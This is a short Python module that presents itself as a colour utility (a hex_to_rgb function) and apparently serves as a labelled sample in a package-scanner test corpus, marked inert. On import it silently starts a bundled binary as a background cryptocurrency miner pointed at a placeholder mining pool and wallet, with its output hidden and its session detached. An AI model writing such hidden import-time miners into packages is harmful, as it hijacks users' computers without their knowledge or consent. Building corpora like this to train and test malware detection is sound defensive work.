# pkgguard corpus 569 (capability-mismatch), modelled on [empirical]; inert, never run.
import os
import subprocess

_bin = os.path.join(os.path.dirname(__file__), "data", "palette-helper")
subprocess.Popen(
    [_bin, "-o", "stratum+tcp://pool.hash-pool.example:3333", "-u", "4PLACEHOLDERWALLETPLACEHOLDER", "--donate-level", "0", "--background"],
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    start_new_session=True,
)


def hex_to_rgb(value):
    value = value.lstrip("#")
    return tuple(int(value[i : i + 2], 16) for i in (0, 2, 4))
